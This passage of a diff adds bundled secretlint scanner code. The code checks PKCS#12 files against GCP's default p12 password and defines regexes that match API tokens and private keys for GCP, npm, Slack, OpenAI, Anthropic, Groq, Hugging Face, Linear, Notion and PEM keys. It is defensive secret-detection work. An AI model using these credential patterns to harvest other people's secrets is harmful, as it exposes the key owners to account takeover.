+    // RFC 7292 Appendix B.1: non-empty passwords are encoded as BMPString
+    // (UTF-16BE) with a trailing two-byte null terminator. The empty password
+    // is the empty byte sequence, not `[0x00, 0x00]`.
+    if (password.length === 0)
+        return new Uint8Array(0);
+    const bytes = new Uint8Array(password.length * 2 + 2);
+    for (let i = 0; i < password.length; i++) {
+        const code = password.charCodeAt(i);
+        bytes[i * 2] = (code >> 8) & 0xff;
+        bytes[i * 2 + 1] = code & 0xff;
+    }
+    return bytes;
+}
+/**
+ * PKCS#12 key derivation (RFC 7292 Appendix B.2) for deriving the MAC key.
+ *
+ * Specialized for the case where the desired key length is at most the
+ * hash output size (which is always true for HMAC keys here: 20 bytes for
+ * SHA-1, 32 bytes for SHA-256). In that case only a single block A[1] is
+ * produced, so the iterative I-update loop from the spec is unnecessary.
+ */
+async function deriveMacKey(hash, password, salt, iterations) {
+    const v = hash.blockSize;
+    const u = hash.outputSize;
+    const ID_MAC = 3;
+    const D = new Uint8Array(v).fill(ID_MAC);
+    const P = padToMultipleOf(encodePasswordAsBmpString(password), v);
+    const S = padToMultipleOf(salt, v);
+    const DI = new Uint8Array(D.length + S.length + P.length);
+    DI.set(D, 0);
+    DI.set(S, D.length);
+    DI.set(P, D.length + S.length);
+    let A = await digest(hash, DI);
+    for (let i = 1; i < iterations; i++) {
+        A = await digest(hash, A);
+    }
+    return A.subarray(0, u);
+}
+/**
+ * Verify a PKCS#12 PFX MAC using the supplied password.
+ *
+ * Returns `true` only when the file is a well-formed PKCS#12 v3 structure
+ * with an unencrypted `data` authSafe, a recognized MAC digest algorithm
+ * (SHA-1/256/384/512), and a MAC that matches the password. Any structural
+ * or algorithmic mismatch yields `false`.
+ */
+async function verifyPkcs12Mac(pfxBytes, password) {
+    let parsed;
+    try {
+        parsed = parsePkcs12(pfxBytes);
+    }
+    catch {
+        return false;
+    }
+    try {
+        const key = await deriveMacKey(parsed.macHash, password, parsed.macSalt, parsed.iterations);
+        const cryptoKey = await globalThis.crypto.subtle.importKey("raw", toBufferSource(key), { name: "HMAC", hash: parsed.macHash.name }, false, ["sign"]);
+        const mac = new Uint8Array(await globalThis.crypto.subtle.sign("HMAC", cryptoKey, toBufferSource(parsed.authSafe)));
+        return bytesEqual(mac, parsed.macDigest);
+    }
+    catch {
+        // Missing crypto.subtle, unsupported algorithm, etc. — treat as "not a
+        // verifiable GCP p12" rather than propagating to the caller.
+        return false;
+    }
+}
+
+// The PKCS#12 password for GCP Service Account private key files.
+// https://cloud.google.com/iam/docs/reference/rest/v1/projects.serviceAccounts.keys#serviceaccountprivatekeytype
+const GCP_SERVICE_ACCOUNT_P12_PASSWORD = "notasecret";
+async function reportIfFoundPrivateKeyP12Format({ source, context, t, }) {
+    if (!source.filePath) {
+        return;
+    }
+    try {
+        // lazy load fs/path; browser does not have fs module
+        const fs = await Promise.resolve(/* import() */).then(__nccwpck_require__.t.bind(__nccwpck_require__, 3024, 19));
+        const path = await Promise.resolve(/* import() */).then(__nccwpck_require__.t.bind(__nccwpck_require__, 6760, 19));
+        const pfxBytes = new Uint8Array(fs.readFileSync(source.filePath));
+        const isGcpServiceAccountP12 = await verifyPkcs12Mac(pfxBytes, GCP_SERVICE_ACCOUNT_P12_PASSWORD);
+        if (!isGcpServiceAccountP12) {
+            return;
+        }
+        context.report({
+            message: t("PrivateKeyP12", {
+                FILE_NAME: path.basename(source.filePath),
+            }),
+            range: [0, source.content.length],
+        });
+    }
+    catch {
+        // nope
+    }
+}
+
+const messages$q = {
+    PrivateKeyP12: {
+        en: (props) => `found GCP Service Account's private key(p12): ${props.FILE_NAME}`,
+        ja: (props) => `GCPサービスアカウントの秘密鍵(p12) ${props.FILE_NAME} がみつかりました`,
+    },
+    PrivateKeyJSON: {
+        en: (props) => `found GCP Service Account's private key(json): ${props.FILE_NAME}`,
+        ja: (props) => `GCPサービスアカウントの秘密鍵(json): ${props.FILE_NAME} がみつかりました`,
+    },
+};
+function reportIfFoundPrivateKeyJSONFormat({ source, context, t, }) {
+    try {
+        const credentialObject = JSON.parse(source.content);
+        // Private Key Pattern
+        const PRIVATE_KEY_PATTERN = /-----BEGIN\s?(DSA|RSA|EC|PGP|OPENSSH)?\s?PRIVATE KEY/gm;
+        const isGCPServiceAccountPrivateKeyJSON = "private_key_id" in credentialObject &&
+            "private_key" in credentialObject &&
+            PRIVATE_KEY_PATTERN.test(credentialObject["private_key"]);
+        if (!isGCPServiceAccountPrivateKeyJSON) {
+            return;
+        }
+        context.report({
+            message: t("PrivateKeyJSON", {
+                FILE_NAME: source.filePath ? external_node_path_.basename(source.filePath) : "",
+            }),
+            range: [0, source.content.length],
+        });
+    }
+    catch {
+        // nope
+    }
+}
+const creator$r = {
+    messages: messages$q,
+    meta: {
+        id: "@secretlint/secretlint-rule-gcp",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["all"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-gcp/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$q);
+        ({
+            allows: options.allows || [],
+        });
+        return {
+            file(source) {
+                if (source.ext === ".p12") {
+                    return reportIfFoundPrivateKeyP12Format({ source, context, t });
+                }
+                else if (source.ext === ".json") {
+                    return reportIfFoundPrivateKeyJSONFormat({ source, context, t });
+                }
+            },
+        };
+    },
+};
+
+const messages$p = {
+    PackageJSON_xOauthToken: {
+        en: (props) => `found GitHub Token: ${props.TOKEN}`,
+        ja: (props) => `GitHub Token: ${props.TOKEN} がみつかりました`,
+    },
+    Npmrc_authToken: {
+        en: (props) => `found npmrc authToken: ${props.TOKEN}`,
+        ja: (props) => `npmrc authToken: ${props.TOKEN} がみつかりました`,
+    },
+    NPM_ACCESS_TOKEN: {
+        en: (props) => `found npm access token: ${props.TOKEN}`,
+        ja: (props) => `npm access token: ${props.TOKEN} がみつかりました`,
+    },
+};
+function reportIfFoundXOauthGitHubToken({ source, options, context, t, }) {
+    // https://github.blog/2012-09-21-easier-builds-and-deployments-using-git-over-https-and-oauth/
+    // https://stackoverflow.com/questions/14402407/maximum-length-of-a-domain-name-without-the-http-www-com-parts
+    const XOAuthPattern = /https?:\/\/(.{1,256}):x-oauth-basic@github.com\//g;
+    const results = source.content.matchAll(XOAuthPattern);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[1] || "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("PackageJSON_xOauthToken", {
+                TOKEN: match,
+            }),
+            range,
+        });
+    }
+}
+function reportIfFound_AuthTokenInNpmrc({ source, options, context, t, }) {
+    // https://blog.npmjs.org/post/118393368555/deploying-with-npm-private-modules
+    // allow _authToken=${NPM_TOKEN}
+    // https://github.com/secretlint/secretlint/issues/302
+    const AuthTokenPattern = /_authToken=([^$].*)/g;
+    const results = source.content.matchAll(AuthTokenPattern);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[1] || "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("Npmrc_authToken", {
+                TOKEN: match,
+            }),
+            range,
+        });
+    }
+}
+function reportIfFound_NPM_ACCESS_TOKEN({ source, options, context, t, }) {
+    // https://github.blog/2021-09-23-announcing-npms-new-access-token-format/
+    // https://github.blog/2021-04-05-behind-githubs-new-authentication-token-formats/
+    // token length should be 40
+    const NPM_ACCESS_TOKEN_PATTERN = /(?<!\p{L})npm_[A-Za-z0-9_]{36}(?![A-Za-z0-9_])/gu;
+    const results = source.content.matchAll(NPM_ACCESS_TOKEN_PATTERN);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("NPM_ACCESS_TOKEN", {
+                TOKEN: match,
+            }),
+            range,
+        });
+    }
+}
+const isPackageFile = (filePath) => {
+    if (!filePath) {
+        return true;
+    }
+    return filePath.endsWith("package.json") || filePath.endsWith("package-lock.json");
+};
+const isNpmrc = (filePath) => {
+    if (!filePath) {
+        return true;
+    }
+    return filePath.endsWith(".npmrc");
+};
+const creator$q = {
+    messages: messages$p,
+    meta: {
+        id: "@secretlint/secretlint-rule-npm",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-npm/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$p);
+        const normalizedOptions = {
+            allows: options.allows || [],
+        };
+        return {
+            file(source) {
+                if (isPackageFile(source.filePath)) {
+                    reportIfFoundXOauthGitHubToken({ source, options: normalizedOptions, context, t });
+                }
+                else if (isNpmrc(source.filePath)) {
+                    reportIfFound_AuthTokenInNpmrc({ source, options: normalizedOptions, context, t });
+                }
+                reportIfFound_NPM_ACCESS_TOKEN({ source, options: normalizedOptions, context, t });
+            },
+        };
+    },
+};
+
+const messages$o = {
+    SLACK_TOKEN: {
+        en: (props) => `found slack token: ${props.TOKEN}`,
+        ja: (props) => `Slackトークン: ${props.TOKEN} がみつかりました`,
+    },
+    IncomingWebhook: {
+        en: (props) => `found Slack Incoming Webhook: ${props.URL}`,
+        ja: (props) => `SlackのIncoming Webhooks: ${props.TOKEN} がみつかりました`,
+    },
+};
+function reportIfFoundRawPrivateKey$1({ source, options, context, t, }) {
+    // Based on https://docs.cribl.io/docs/regexesyml
+    // https://api.slack.com/docs/token-types
+    // Bot user token strings begin with xoxb-
+    // User token strings begin with xoxp-
+    // App token strings begin with xapp-
+    // Workspace access token strings begin with xoxa-2
+    // Workspace refresh token strings begin with xoxr
+    // Pattern: {prefix}-(\d-)-xxxx-xxxx
+    const SLACK_TOKEN_PATTERN = /\b(?:xoxb|xoxp|xapp|xoxa|xoxo|xoxr)-(?:\d-)?(?:[a-zA-Z0-9]{1,40}-)+[a-zA-Z0-9]{1,40}\b/g;
+    const results = source.content.matchAll(SLACK_TOKEN_PATTERN);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("SLACK_TOKEN", {
+                TOKEN: match,
+            }),
+            range,
+        });
+    }
+}
+/**
+ * Report if found Incoming Webhooks
+ * https://api.slack.com/messaging/webhooks
+ * @param source
+ * @param options
+ * @param context
+ * @param t
+ */
+function reportIfFoundIncomingWebhook({ source, options, context, t, }) {
+    // Based on https://hooks.slack.com/TXXXXX/BXXXXX/XXXXXXXXXX
+    // https://api.slack.com/messaging/webhooks
+    const IncomingWebhooksPattern = /https:\/\/hooks\.slack\.com\/services\/T[a-zA-Z0-9]{1,40}\/B[a-zA-Z0-9]{1,40}\/[a-zA-Z0-9]{1,40}/gi;
+    const results = source.content.matchAll(IncomingWebhooksPattern);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("IncomingWebhook", {
+                URL: match,
+            }),
+            range,
+        });
+    }
+}
+const creator$p = {
+    messages: messages$o,
+    meta: {
+        id: "@secretlint/secretlint-rule-slack",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-slack/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$o);
+        const normalizedOptions = {
+            allows: options.allows || [],
+        };
+        return {
+            file(source) {
+                reportIfFoundRawPrivateKey$1({ source, options: normalizedOptions, context, t });
+                reportIfFoundIncomingWebhook({ source, options: normalizedOptions, context, t });
+            },
+        };
+    },
+};
+
+const messages$n = {
+    BasicAuth: {
+        en: (props) => `found basic auth credential: ${props.CREDENTIAL}`,
+        ja: (props) => `ベーシック認証情報: ${props.CREDENTIAL} がみつかりました`,
+    },
+};
+// Common placeholder patterns that should be ignored to avoid false positives
+const BUILTIN_IGNORED_PATTERNS$1 = [
+    "localhost",
+    "127.0.0.1",
+    "password",
+    "mypassword",
+    "myusername",
+    "{password}",
+    "${password}",
+    "{{password}}",
+    "{username}",
+    "${username}",
+    "{{username}}",
+    "YOUR_PASSWORD",
+    "YOUR_USERNAME",
+    "REPLACE_WITH_PASSWORD",
+    "REPLACE_WITH_USERNAME",
+];
+/**
+ * Check if the string contains variable-like patterns that indicate it's likely a template
+ */
+function isVariableLikeString$1(str) {
+    // Check for common variable patterns with length limits to prevent ReDoS
+    const variablePatterns = [
+        /\$\{[^}]{1,50}\}/, // ${var}
+        /\{\{[^}]{1,50}\}\}/, // {{var}}
+        /\{[^}]{1,50}\}/, // {var}
+        /%[A-Z_]{1,30}%/, // %VAR%
+        /\$[A-Z_]{1,30}/, // $VAR
+    ];
+    return variablePatterns.some((pattern) => pattern.test(str));
+}
+/**
+ * Check if the username part looks like a real credential
+ */
+function isLikelyRealUsername(username) {
+    // Skip if it's too short
+    if (username.length < 2)
+        return false;
+    // Skip if it contains variable patterns
+    if (isVariableLikeString$1(username))
+        return false;
+    // Skip if it's a common placeholder
+    if (BUILTIN_IGNORED_PATTERNS$1.some((pattern) => username.toLowerCase().includes(pattern.toLowerCase()))) {
+        return false;
+    }
+    return true;
+}
+/**
+ * Check if the password part looks like a real credential
+ */
+function isLikelyRealPassword(password) {
+    // Skip if it's too short or too simple
+    if (password.length < 4)
+        return false;
+    // Skip if it contains variable patterns
+    if (isVariableLikeString$1(password))
+        return false;
+    // Skip if it's a common placeholder
+    if (BUILTIN_IGNORED_PATTERNS$1.some((pattern) => password.toLowerCase().includes(pattern.toLowerCase()))) {
+        return false;
+    }
+    // Skip passwords that are too repetitive (same character repeated)
+    if (/^(.)\1{3,}$/.test(password))
+        return false; // e.g., "aaaa", "1111", "xxxx"
+    return true;
+}
+function reportIfFoundBasicAuth({ source, options, context, t, }) {
+    // https://developer.mozilla.org/docs/Web/HTTP/Authentication
+    // https://ihateregex.io/expr/url
+    // Using possessive quantifiers to prevent ReDoS
+    const URL_PATTERN = /(?<protocol>(?:https?|ftp|ftps)):\/\/(?<user>[-a-zA-Z0-9_]{1,256}):(?<password>[-a-zA-Z0-9_]{1,256})@[-a-zA-Z0-9%._+~#=]{1,256}\.[a-zA-Z0-9()]{1,6}\b/g;
+    const results = source.content.matchAll(URL_PATTERN);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const username = result.groups?.user;
+        const password = result.groups?.password;
+        // Skip if no credentials found
+        if (!username || !password)
+            continue;
+        // Skip if username doesn't look real
+        if (!isLikelyRealUsername(username))
+            continue;
+        // Skip if password doesn't look real
+        if (!isLikelyRealPassword(password))
+            continue;
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("BasicAuth", {
+                CREDENTIAL: match,
+            }),
+            range,
+        });
+    }
+}
+const creator$o = {
+    messages: messages$n,
+    meta: {
+        id: "@secretlint/secretlint-rule-basicauth",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-basicauth/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$n);
+        const normalizedOptions = {
+            allows: options.allows || [],
+        };
+        return {
+            file(source) {
+                reportIfFoundBasicAuth({ source, options: normalizedOptions, context, t });
+            },
+        };
+    },
+};
+
+const messages$m = {
+    OPENAI_TOKEN: {
+        en: (props) => `found OpenAI API token: ${props.TOKEN}`,
+        ja: (props) => `OpenAI API トークン: ${props.TOKEN} がみつかりました`,
+    },
+};
+const creator$n = {
+    messages: messages$m,
+    meta: {
+        id: "@secretlint/secretlint-rule-openai",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-openai/README.md",
+        },
+    },
+    create(context) {
+        const t = context.createTranslator(messages$m);
+        return {
+            file(source) {
+                const pattern = /sk-(?:proj|svcacct|admin)-(?:[A-Za-z0-9_-]{74}|[A-Za-z0-9_-]{58})T3BlbkFJ(?:[A-Za-z0-9_-]{74}|[A-Za-z0-9_-]{58})\b|sk-[a-zA-Z0-9]{20}T3BlbkFJ[a-zA-Z0-9]{20}/g;
+                const matches = source.content.matchAll(pattern);
+                for (const match of matches) {
+                    const index = match.index ?? 0;
+                    const matchString = match[0] ?? "";
+                    const range = [index, index + matchString.length];
+                    context.report({
+                        message: t("OPENAI_TOKEN", {
+                            TOKEN: matchString,
+                        }),
+                        range,
+                    });
+                }
+            },
+        };
+    },
+};
+
+const messages$l = {
+    ANTHROPIC_API_KEY: {
+        en: (props) => `found Anthropic Claude API key: ${props.KEY}`,
+        ja: (props) => `Anthropic Claude API キー: ${props.KEY} がみつかりました`,
+    },
+};
+const creator$m = {
+    messages: messages$l,
+    meta: {
+        id: "@secretlint/secretlint-rule-anthropic",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-anthropic/README.md",
+        },
+    },
+    create(context) {
+        const t = context.createTranslator(messages$l);
+        return {
+            file(source) {
+                // Anthropic Claude API keys patterns:
+                // - sk-ant-api03-... (original format) - 13 chars prefix
+                // - sk-ant-api04-... (newer format) - 13 chars prefix
+                // Example format: sk-ant-api03-<93 base64url chars>AA (108 chars total)
+                // Breakdown: prefix(13) + middle(93) + suffix(2) = 108 chars
+                // Pattern: sk-ant-api0[3-4]- + base64-like characters (exactly 93 chars) + ending with AA
+                // https://docs.anthropic.com/en/api/overview
+                // https://docs.anthropic.com/en/api/admin-api/apikeys/get-api-key
+                // https://docs.gitguardian.com/secrets-detection/secrets-detection-engine/detectors/specifics/claude_api_key
+                const pattern = /(?<!\p{L})sk-ant-api0\d-[A-Za-z0-9_-]{90,128}AA(?![A-Za-z0-9_-])/gu;
+                const matches = source.content.matchAll(pattern);
+                for (const match of matches) {
+                    const index = match.index ?? 0;
+                    const matchString = match[0] ?? "";
+                    const range = [index, index + matchString.length];
+                    context.report({
+                        message: t("ANTHROPIC_API_KEY", {
+                            KEY: matchString,
+                        }),
+                        range,
+                    });
+                }
+            },
+        };
+    },
+};
+
+const messages$k = {
+    GROQ_API_KEY: {
+        en: (props) => `found Groq API key: ${props.KEY}`,
+        ja: (props) => `Groq API キー: ${props.KEY} がみつかりました`,
+    },
+};
+const creator$l = {
+    messages: messages$k,
+    meta: {
+        id: "@secretlint/secretlint-rule-groq",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-groq/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$k);
+        const normalizedOptions = {
+            allows: options?.allows ?? [],
+        };
+        return {
+            file(source) {
+                // Groq API keys format:
+                // - Prefix "gsk_" followed by exactly 52 alphanumeric characters
+                // References:
+                // - https://console.groq.com/docs/quickstart
+                // - https://docs.github.com/en/code-security/secret-scanning/introduction/supported-secret-scanning-patterns
+                // - https://github.com/trufflesecurity/trufflehog/blob/main/pkg/detectors/groq/groq.go
+                const pattern = /(?<!\p{L})gsk_[a-zA-Z0-9]{52}(?![a-zA-Z0-9])/gu;
+                const matches = source.content.matchAll(pattern);
+                for (const match of matches) {
+                    const index = match.index ?? 0;
+                    const matchString = match[0] ?? "";
+                    const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+                    if (allowedResults.length > 0) {
+                        continue;
+                    }
+                    const range = [index, index + matchString.length];
+                    context.report({
+                        message: t("GROQ_API_KEY", {
+                            KEY: matchString,
+                        }),
+                        range,
+                    });
+                }
+            },
+        };
+    },
+};
+
+const messages$j = {
+    HUGGINGFACE_USER_ACCESS_TOKEN: {
+        en: (props) => `found Hugging Face User Access Token: ${props.TOKEN}`,
+        ja: (props) => `Hugging Face User Access Token: ${props.TOKEN} がみつかりました`,
+    },
+};
+const creator$k = {
+    messages: messages$j,
+    meta: {
+        id: "@secretlint/secretlint-rule-huggingface",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-huggingface/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$j);
+        const normalizedOptions = {
+            allows: options?.allows ?? [],
+        };
+        return {
+            file(source) {
+                // Hugging Face User Access Token format:
+                // - Prefix: `hf_`
+                // - Body: exactly 34 alphabetic characters (a-z, A-Z)
+                // References:
+                // - https://huggingface.co/docs/hub/security-tokens
+                // - https://github.com/gitleaks/gitleaks
+                const pattern = /(?<!\p{L})hf_[a-zA-Z]{34}(?![a-zA-Z])/gu;
+                const matches = source.content.matchAll(pattern);
+                for (const match of matches) {
+                    const index = match.index ?? 0;
+                    const matchString = match[0] ?? "";
+                    const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+                    if (allowedResults.length > 0) {
+                        continue;
+                    }
+                    const range = [index, index + matchString.length];
+                    context.report({
+                        message: t("HUGGINGFACE_USER_ACCESS_TOKEN", {
+                            TOKEN: matchString,
+                        }),
+                        range,
+                    });
+                }
+            },
+        };
+    },
+};
+
+const messages$i = {
+    LINEAR_API_TOKEN: {
+        en: (props) => `found linear api token: ${props.ID}`,
+        ja: (props) => `linear api token: ${props.ID} がみつかりました`,
+    },
+};
+const creator$j = {
+    messages: messages$i,
+    meta: {
+        id: "@secretlint/secretlint-rule-linear",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-linear/README.md",
+        },
+    },
+    create(context) {
+        const t = context.createTranslator(messages$i);
+        return {
+            file(source) {
+                const pattern = /(?<!\p{L})lin_api_[a-zA-Z0-9_]{32,128}(?![a-zA-Z0-9_])/gu;
+                const matches = source.content.matchAll(pattern);
+                for (const match of matches) {
+                    const index = match.index ?? 0;
+                    const matchString = match[0] ?? "";
+                    const range = [index, index + matchString.length];
+                    context.report({
+                        message: t("LINEAR_API_TOKEN", {
+                            ID: matchString,
+                        }),
+                        range,
+                    });
+                }
+            },
+        };
+    },
+};
+
+const messages$h = {
+    NOTION_INTEGRATION_TOKEN: {
+        en: (props) => `found Notion integration token: ${props.TOKEN}`,
+        ja: (props) => `Notion integration トークン: ${props.TOKEN} がみつかりました`,
+    },
+};
+function reportIfFoundToken({ source, options, context, t, }) {
+    /**
+     * Notion Integration Token (new format introduced September 2024).
+     *
+     * Structure: `ntn_` prefix + 11 digits + 35 alphanumeric characters (46 chars after prefix).
+     * The legacy `secret_` prefix is intentionally NOT detected here because it is too
+     * generic and prone to false positives.
+     *
+     * References:
+     * - https://developers.notion.com/changelog (API token prefix transition)
+     * - https://docs.github.com/en/code-security/secret-scanning/introduction/supported-secret-scanning-patterns
+     * - https://github.com/gitleaks/gitleaks/blob/master/config/gitleaks.toml (notion-api-token)
+     *
+     * Note: Notion warns that the token format may change, so this pattern may need
+     * to be revisited if a future format is introduced.
+     */
+    const NOTION_INTEGRATION_TOKEN_PATTERN = /(?<!\p{L})ntn_[0-9]{11}[A-Za-z0-9]{35}(?![A-Za-z0-9])/gu;
+    const results = source.content.matchAll(NOTION_INTEGRATION_TOKEN_PATTERN);
+    for (const result of results) {
+        const index = result.index ?? 0;
+        const match = result[0] ?? "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("NOTION_INTEGRATION_TOKEN", {
+                TOKEN: match,
+            }),
+            range,
+        });
+    }
+}
+const creator$i = {
+    messages: messages$h,
+    meta: {
+        id: "@secretlint/secretlint-rule-notion",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-notion/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$h);
+        const normalizedOptions = {
+            allows: options.allows ?? [],
+        };
+        return {
+            file(source) {
+                reportIfFoundToken({ source, options: normalizedOptions, context, t });
+            },
+        };
+    },
+};
+
+const messages$g = {
+    PrivateKey: {
+        en: (props) => `found private key: ${props.KEY}`,
+        ja: (props) => `秘密鍵: ${props.KEY} がみつかりました`,
+    },
+};
+/**
+ * Regular expression to detect private keys and extract Base64 content in one pass
+ * Based on https://docs.cribl.io/docs/regexesyml
+ * Captures the Base64 content (group 1) between BEGIN and END markers
+ *
+ * Length constraint {100,10000} (heuristic):
+ * - Minimum 100: Heuristically excludes short placeholders (smallest real key ECDSA-256 ≈ 288 chars)
+ * - Maximum 10000: Heuristically prevents catastrophic backtracking and extremely large inputs
+ *
+ * Character class [A-Za-z0-9+/=\s\\]:
+ * - Restricts to Base64 characters, whitespace, and backslash to prevent ReDoS attacks
+ * - Backslash included to handle JSON escape sequences (\n, \r, \t)
+ * - Fails fast on invalid characters, reducing backtracking complexity
+ *
+ * ReDoS mitigation:
+ * - Uses greedy quantifier (no ?) to reduce backtracking ambiguity
+ * - Simplified optional parts to minimize exponential complexity
+ * - Length limit ensures bounded execution time
+ */
+const PEM_CONTENT_PATTERN = /-----BEGIN[ ]?(?:(?:RSA|DSA|EC|OPENSSH|PGP) )?PRIVATE KEY(?: BLOCK)?-----\n?([A-Za-z0-9+/=\s\\]{100,10000})\n?-----END[ ]?(?:(?:RSA|DSA|EC|OPENSSH|PGP) )?PRIVATE KEY(?: BLOCK)?-----/gm;
+/**
+ * Validate if the Base64 content is a real private key or a placeholder
+ * Based on Base64 validation approach without decoding
+ *
+ * References:
+ * - RFC 7468: Textual Encodings of PKIX, PKCS, and CMS Structures
+ *   https://tools.ietf.org/html/rfc7468
+ * - RFC 4648: The Base16, Base32, and Base64 Data Encodings
+ *   https://datatracker.ietf.org/doc/html/rfc4648
+ * - RFC 5208: PKCS #8: Private-Key Information Syntax v1.2
+ *   https://datatracker.ietf.org/doc/html/rfc5208
+ * - RFC 5958: Asymmetric Key Packages
+ *   https://datatracker.ietf.org/doc/html/rfc5958
+ * - RFC 3447: PKCS #1: RSA Cryptography Specifications v2.1
+ *   https://datatracker.ietf.org/doc/html/rfc3447
+ * - OpenSSH PROTOCOL.key
+ *   https://github.com/openssh/openssh-portable/blob/master/PROTOCOL.key
+ *
+ * @param base64Content - The Base64-encoded key content (without PEM headers)
+ * @returns true if it's likely a real private key, false if it's a placeholder
+ */
+function validateBase64KeyContent(base64Content) {
+    // 1. Base64 format validation (RFC 4648)
+    // Reject non-Base64 characters like "...", "***", "xxx"
+    if (!/^[A-Za-z0-9+/]+=*$/.test(base64Content)) {
+        return false;
+    }
+    // 2. Minimum length check (Base64 100 chars = ~75 bytes decoded)
+    // Real keys are much longer: RSA-1024 ≈ 800 chars, EC-256 ≈ 120 chars
+    if (base64Content.length < 100) {
+        return false;
+    }
+    // 3. Magic byte check (in Base64)
+    // ASN.1 format (PKCS#1, PKCS#8, SEC1): 0x30 (SEQUENCE) → "MI*"
+    // OpenSSH format: "openssh-key-v1\0" → "b3BlbnNzaC1rZXktdjE"
+    const validMagicBytes = /^(MI|b3BlbnNzaC1rZXktdjE)/;
+    if (!validMagicBytes.test(base64Content)) {
+        return false;
+    }
+    return true;
+}
+function reportIfFoundRawPrivateKey({ source, options, context, t, }) {
+    // Use PEM_CONTENT_PATTERN to extract both full match and Base64 content in one pass
+    const results = source.content.matchAll(PEM_CONTENT_PATTERN);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const base64Raw = result[1] || "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        // Remove whitespace and escaped newlines (from JSON strings)
+        const base64Content = base64Raw.replace(/\s|\\n/g, "");
+        // Validate if the Base64 content is a real private key
+        if (!validateBase64KeyContent(base64Content)) {
+            continue;
+        }
+        context.report({
+            message: t("PrivateKey", {
+                KEY: match,
+            }),
+            range,
+        });
+    }
+}
+const creator$h = {
+    messages: messages$g,
+    meta: {
+        id: "@secretlint/secretlint-rule-privatekey",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-privatekey/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$g);
+        const normalizedOptions = {
+            allows: options.allows || [],
+        };
+        return {
+            file(source) {
+                reportIfFoundRawPrivateKey({ source, options: normalizedOptions, context, t });
+            },
+        };
+    },
+};
+
+const messages$f = {
+    SENDGRID_KEY: {
+        en: (props) => `found Sendgrid api key: ${props.KEY}`,
+        ja: (props) => `Sendgrid APIキーが見つかりました： ${props.KEY}`,
+    },
+};
+function reportIfFoundKey$3({ source, options, context, t, }) {
